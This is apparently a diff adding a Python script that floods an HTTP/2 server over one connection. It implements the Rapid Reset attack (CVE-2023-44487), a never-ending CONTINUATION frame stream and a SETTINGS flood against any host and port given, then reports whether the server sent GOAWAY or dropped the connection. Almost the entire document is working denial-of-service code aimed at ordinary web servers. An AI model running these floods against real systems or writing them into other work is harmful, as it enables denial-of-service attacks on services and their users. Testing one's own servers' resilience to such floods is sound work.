@@ -1,0 +1,60 @@
+#!/usr/bin/env python3
+"""HTTP/2 floods against one connection, written frame by frame with the h2 library.
+
+  h2_flood.py HOST PORT rapid-reset N   HEADERS then RST_STREAM, N times (CVE-2023-44487)
+  h2_flood.py HOST PORT continuation N  one HEADERS and N CONTINUATION frames, never ending it
+  h2_flood.py HOST PORT settings N      N SETTINGS frames without reading the acks
+
+Prints JSON: {"sent": frames sent, "goaway": whether the server sent GOAWAY, "closed": whether
+it closed the connection}.
+"""
+import json, socket, sys, time
+import h2.config, h2.connection, h2.events
+from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame
+
+host, port, kind, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
+s = socket.create_connection((host, port))
+s.settimeout(5)
+conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+conn.initiate_connection()
+s.sendall(conn.data_to_send())
+headers = [(":method", "GET"), (":path", "/"), (":authority", "flood"), (":scheme", "http")]
+sent, goaway, closed = 0, False, False
+try:
+    if kind == "rapid-reset":
+        for i in range(n):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, headers)
+            conn.reset_stream(sid)
+            s.sendall(conn.data_to_send())
+            sent += 2
+    elif kind == "continuation":
+        block = conn.encoder.encode(headers)
+        s.sendall(HeadersFrame(1, data=block[:1]).serialize())
+        pad = b"\x40\x01x\x01y" * 200  # literal header fields, over and over
+        for i in range(n):
+            s.sendall(ContinuationFrame(1, data=pad).serialize())
+            sent += 1
+    elif kind == "settings":
+        for i in range(n):
+            s.sendall(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize())
+            sent += 1
+except (BrokenPipeError, ConnectionResetError):
+    closed = True
+deadline = time.time() + 5
+while time.time() < deadline:
+    try:
+        data = s.recv(65536)
+    except (socket.timeout, ConnectionResetError):
+        closed = True
+        break
+    if not data:
+        closed = True
+        break
+    try:
+        for ev in conn.receive_data(data):
+            if isinstance(ev, h2.events.ConnectionTerminated):
+                goaway = True
+    except Exception:
+        pass
+print(json.dumps({"sent": sent, "goaway": goaway, "closed": closed}))
